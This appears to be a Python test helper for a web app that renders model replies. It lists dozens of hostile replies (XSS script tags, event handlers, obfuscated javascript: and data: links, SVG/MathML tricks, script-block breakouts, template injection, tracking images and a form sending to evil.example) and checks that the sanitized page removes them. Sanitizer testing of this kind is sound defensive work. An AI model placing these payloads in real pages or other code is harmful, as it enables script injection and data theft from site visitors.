"""Hostile model replies, and what a page must look like after showing one.

Each reply is something a model could be tricked (or a compromised provider could choose) to
write. The fake upstream's ``fake/hostile`` model answers the entry named by the prompt.
"""

from __future__ import annotations

import re
from pathlib import Path

from bs4 import BeautifulSoup

PWN = "window.__pwned=1;alert(1)"
HOSTILE = {
    # script and event handlers
    "script-tag": f"<script>{PWN}</script>",
    "script-in-paragraph": f"Hello <script src=https://evil.example/x.js></script> {PWN}",
    "img-onerror": f'<img src=x onerror="{PWN}">',
    "body-onload": f"<body onload={PWN}>",
    "details-ontoggle": f"<details open ontoggle={PWN}><summary>x</summary></details>",
    "markdown-title-breakout": '[x](https://ok.example "a\\" onmouseover=\\"alert(1))',
    # javascript:, vbscript:, data: links in many spellings
    "js-link": "[click](javascript:alert(1))",
    "js-link-mixed-case": "[click](JaVaScRiPt:alert(1))",
    "js-link-entity-decimal": "[click](&#106;avascript:alert(1))",
    "js-link-entity-hex": "[click](&#x6A;avascript&#x3A;alert(1))",
    "js-link-colon-entity": "[click](javascript&colon;alert(1))",
    "js-link-newline-entity": "[click](java&#10;script:alert(1))",
    "js-link-tab-entity": "[click](java&Tab;script:alert(1))",
    "js-link-leading-space": "[click]( javascript:alert(1))",
    "js-link-angle-brackets": "[click](<javascript:alert(1)>)",
    "js-link-percent": "[click](javascript%3Aalert(1))",
    "js-autolink": "<javascript:alert(1)>",
    "js-reference-link": "[click][x]\n\n[x]: javascript:alert(1)",
    "js-reference-with-title": '[click][x]\n\n[x]: JAVASCRIPT:alert(1) "title"',
    "js-raw-anchor": '<a href="javascript:alert(1)">x</a>',
    "js-null-prefix": "[click](\x00javascript:alert(1))",
    "vbscript-link": "[click](vbscript:msgbox(1))",
    "data-html-link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-image-link": "[click](data:image/png;base64,iVBORw0KGgo=)",
    "data-svg-link-upper": "[click](DATA:image/svg+xml,<svg/onload=alert(1)>)",
    # images: never fetched
    "external-image": "![tracker](https://evil.example/pixel.png?leak=SECRET)",
    "external-image-reference": "![tracker][p]\n\n[p]: https://evil.example/p.png",
    "data-image": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "svg-data-image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
    "raw-img-tag": '<img src="https://evil.example/raw.png">',
    # SVG and MathML tricks
    "svg-onload": f"<svg onload={PWN}><script>{PWN}</script></svg>",
    "svg-use-href": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "mathml-style-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
                         "</style></mglyph></table></mtext></math>",
    "mathml-href": '<math href="javascript:alert(1)"><mi>click</mi></math>',
    # elements that navigate, restyle or load things
    "form": '<form action="https://evil.example/steal"><input name=q><button>Go</button></form>',
    "base-tag": '<base href="https://evil.example/">[relative](/static/x.js)',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style-tag": "<style>body{background:url(https://evil.example/bg.png)}</style>",
    "style-attribute": '<p style="background:url(https://evil.example/a.png)">x</p>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "iframe-src": '<iframe src="https://evil.example/"></iframe>',
    "object-embed": '<object data="https://evil.example/x.swf"></object>'
                    '<embed src="https://evil.example/y">',
    "link-stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "video-poster": '<video poster="https://evil.example/p.png" src=x onerror=alert(1)></video>',
    # template syntax must stay text
    "jinja-config": "{{ config }} {{ config.SECRET_KEY }} {% for x in range(3) %}{{x}}{% endfor %}",
    "js-template": "${alert(1)} {{constructor.constructor('alert(1)')()}}",
    # breaking out of a <script type="application/json"> block
    "close-script": f"</script><script>{PWN}</script><!--",
    "close-script-upper": f"</SCRIPT ><script>{PWN}</script>",
    "close-script-in-code": f"`</script><script>{PWN}</script>`",
    # code fences
    "code-fence-html": f"```html\n<script>{PWN}</script>\n```",
    "code-fence-lang-attack": '```"><script>alert(1)</script>\nx\n```',
    "html-comment": "<!-- <script>alert(1)</script> -->",
    # pathological sizes and characters
    "brackets-100k": "[" * 100_000,
    "nested-quotes": "> " * 3000 + "deep",
    "nested-emphasis": "*a " * 20000,
    "huge-2mb": ("<script>alert(1)</script> lorem ipsum dolor " * 50_000)[:2_000_000],
    "control-chars": "before\x00\x01\x07\x1b[31mred\x7f\x9b after",
    "bidi-override": "invoice_\u202egnp.exe\u202c and \u2066isolated\u2069 text",
}
HUGE = {"huge-2mb", "brackets-100k", "nested-emphasis"}
FORBIDDEN_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "img",
                  "svg", "math", "style", "base", "video", "audio", "source", "picture",
                  "template", "portal", "noscript", "link", "meta", "form", "input", "button"}
REPLY_TAGS = {"a", "abbr", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4",
              "h5", "h6", "hr", "i", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup",
              "table", "tbody", "td", "th", "thead", "tr", "ul"}
REPLY_ATTRS = {"a": {"href", "title", "rel"}, "span": {"class"}, "code": {"class"},
               "ol": {"start"}, "p": {"class"}, "pre": {"class"}}  # p/pre: the plain fallback
OWN_SCRIPTS = {f"/static/{path.name}"  # one plain script per feature
               for path in (Path(__file__).resolve().parents[1] / "static").glob("*.js")}
PAGE_OK = {  # the page's own elements of the forbidden kinds
    "script": lambda t: t.get("src", "") in OWN_SCRIPTS and len(t.attrs) in (2, 3),
    # the page's own <template>s (the streaming card): named, and never inside a result
    "template": lambda t: bool(t.get("id")) and t.find_parent("article", class_="result") is None,
    "link": lambda t: t.get("href", "").startswith("/static/"),
    "meta": lambda t: "http-equiv" not in t.attrs,
    "form": lambda t: t.get("id") in ("prompt-form",) or "login-form" in t.get("class", [])
    or _in_run_actions(t),
    "input": lambda t: t.find_parent("form") is not None or t.get("id") == "share-url"
    or _in_own_template(t),
    "button": lambda t: t.find_parent("form") is not None or t.find_parent("span", "tools")
    or _in_own_template(t) or _in_replay_bar(t),
    # thumbnails of uploads: served by this site only, outside any reply
    "img": lambda t: "thumb" in t.get("class", []) and t.find_parent(class_="reply") is None
    and (t.get("src", "").startswith(("/images/", "/s/")) or _in_own_template(t)),
    # the flight recorder's own timeline, drawn by the server, never inside a reply
    "svg": lambda t: t.get("class") == ["timeline"] and t.find_parent(class_="reply") is None
    and t.find_parent("details", class_="timeline-panel") is not None,
}
OWN_TEMPLATES = ("turn-template-", "image-template", "variable-template")


def _in_own_template(tag) -> bool:
    """Inside one of the blank <template>s the turn editor clones (outside any result)."""
    template = tag.find_parent("template")
    return template is not None and template.get("id", "").startswith(OWN_TEMPLATES) and \
        template.find_parent("article", class_="result") is None


def _in_replay_bar(tag) -> bool:
    """The replay controls of a run, which sit outside any reply."""
    return tag.find_parent("div", class_="replay-bar") is not None and \
        tag.find_parent(class_="reply") is None


def _in_run_actions(tag) -> bool:
    """The saved run's own share/revoke/delete forms, which sit outside any reply."""
    section = tag.find_parent("section", class_="run-actions")
    return section is not None and tag.find_parent(class_="reply") is None


def assert_safe_url(url: str) -> None:
    """The scheme a browser would see (it drops tabs/newlines and edge controls) is safe."""
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08"
                                                    "\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14"
                                                    "\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d"
                                                    "\x1e\x1f ")
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", cleaned)
    assert scheme is None or scheme.group(1).lower() in ("http", "https", "mailto"), url


def assert_safe_reply(html: str) -> None:
    """A rendered reply holds only the allow-listed tags, attributes and URL schemes."""
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        assert tag.name in REPLY_TAGS, tag
        assert set(tag.attrs) <= REPLY_ATTRS.get(tag.name, set()), tag
        if tag.name == "a" and tag.get("href"):
            assert_safe_url(tag["href"])


def assert_safe_page(html: str) -> BeautifulSoup:
    """No executable, navigating or fetching markup anywhere but the page's own."""
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        if tag.name in FORBIDDEN_TAGS:
            assert PAGE_OK.get(tag.name, lambda t: False)(tag), f"unexpected {tag}"[:300]
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), f"event handler in {tag}"[:300]
            assert name.lower() not in ("srcdoc", "style", "formaction", "xlink:href"), tag
            if name in ("href", "src", "action", "data", "poster"):
                assert_safe_url(value if isinstance(value, str) else " ".join(value))
    for reply in soup.select(".reply"):
        assert_safe_reply(reply.decode_contents())
    assert "test-secret" not in html  # {{ config }} was never evaluated
    return soup
